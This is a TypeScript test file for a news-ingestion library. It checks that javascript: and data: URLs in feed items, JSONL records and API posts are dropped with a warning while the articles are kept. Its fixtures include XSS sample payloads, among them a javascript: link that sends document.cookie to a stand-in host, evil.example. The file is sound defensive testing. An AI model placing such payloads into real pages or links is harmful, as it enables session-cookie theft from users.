// Only http(s) URLs are kept (issue 27 item 5, input side): a feed item's <link>, a JSON item's url and an API
// article's url that is javascript:, data: or not a URL is dropped with a warning naming the input and the value;
// the article is stored without it and nothing counts as failed.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Khabar } from '../../src/khabar.js';
import type { InputProblem } from '../../src/ingest/index.js';
import { buildServer } from '../../src/api/index.js';
import { KhabarLibrarySource } from '../../src/api/khabar-source.js';
import { tempDir, writeTemp } from '../ingest/helpers.js';
import { SAMPLE_TEXT } from './corpus.js';

const paragraphs = readFileSync(SAMPLE_TEXT, 'utf8').split('\n').filter((l) => l.trim().split(/\s+/).length > 12);
const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');

test('a feed item\'s javascript: link and a JSON item\'s data: url are dropped with a warning; the articles are stored', async () => {
  const dir = tempDir();
  writeTemp(dir, 'feed.xml', `<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>قناة النخيل الإخبارية</title>
<item><title>سيول الجرف</title><link>javascript:fetch('//evil.example/'+document.cookie)</link><guid>n-1</guid><description>${esc(paragraphs[0])}</description></item>
<item><title>خبر آخر</title><link>https://nakheel.example/news/2</link><guid>n-2</guid><description>${esc(paragraphs[1])}</description></item>
</channel></rss>`);
  writeTemp(dir, 'items.jsonl', [
    JSON.stringify({ id: 'j-1', text: paragraphs[2], url: 'data:text/html,<script>alert(1)</script>' }),
    JSON.stringify({ id: 'j-2', text: paragraphs[3], url: ' JaVaScRiPt:alert(1)' }),
    JSON.stringify({ id: 'j-3', text: paragraphs[4] ?? paragraphs[0] + ' ثم', url: 'http://nakheel.example/3' }),
  ].join('\n'));
  const khabar = Khabar.open({ db: join(tempDir(), 'k.db') });
  const problems: InputProblem[] = [];
  try {
    const counts = await khabar.ingest([dir], { onProblem: (p) => problems.push(p), onWarning: (p) => problems.push(p) });
    assert.equal(counts.failed, 0);
    assert.equal(counts.stored, 5);
    const lines = problems.map((p) => `${p.input.replace(/.*\//, '')}: ${p.reason}`);
    assert.deepEqual(lines, [
      'feed.xml item 0: url "javascript:fetch(\'//evil.example/\'+document.cookie)" dropped (a javascript: URL, not http(s)); the article is kept without it',
      'items.jsonl line 1: url "data:text/html,<script>alert(1)</script>" dropped (a data: URL, not http(s)); the article is kept without it',
      'items.jsonl line 2: url " JaVaScRiPt:alert(1)" dropped (a javascript: URL, not http(s)); the article is kept without it',
    ]);
    assert.ok(problems.every((p) => p.warning));
    assert.equal(khabar.article('n-1')!.url, null);
    assert.equal(khabar.article('n-2')!.url, 'https://nakheel.example/news/2');
    assert.equal(khabar.article('j-1')!.url, null);
    assert.equal(khabar.article('j-2')!.url, null);
    assert.equal(khabar.article('j-3')!.url, 'http://nakheel.example/3');
  } finally {
    khabar.close();
  }
});

test('POST /api/articles keeps an article whose url is javascript:, without the url, and says so', async () => {
  const khabar = Khabar.open({ db: join(tempDir(), 'k.db') });
  const app = await buildServer({ source: new KhabarLibrarySource(khabar), token: 't' });
  try {
    const r = await app.inject({
      method: 'POST', url: '/api/articles', headers: { authorization: 'Bearer t' },
      payload: [{ id: 'api-ok', text: paragraphs[0], url: 'https://nakheel.example/1' }, { id: 'api-js', text: paragraphs[1], url: 'javascript:alert(document.domain)' }],
    });
    assert.equal(r.statusCode, 200, r.body);
    const body = r.json();
    assert.equal(body.stored, 2);
    assert.deepEqual(body.failed, []);
    assert.deepEqual(body.warnings, [{ index: 1, reason: 'request item 2: url "javascript:alert(document.domain)" dropped (a javascript: URL, not http(s)); the article is kept without it' }]);
    assert.equal(khabar.article('api-js')!.url, null);
    assert.equal(khabar.article('api-ok')!.url, 'https://nakheel.example/1');
  } finally {
    await app.close();
    khabar.close();
  }
});
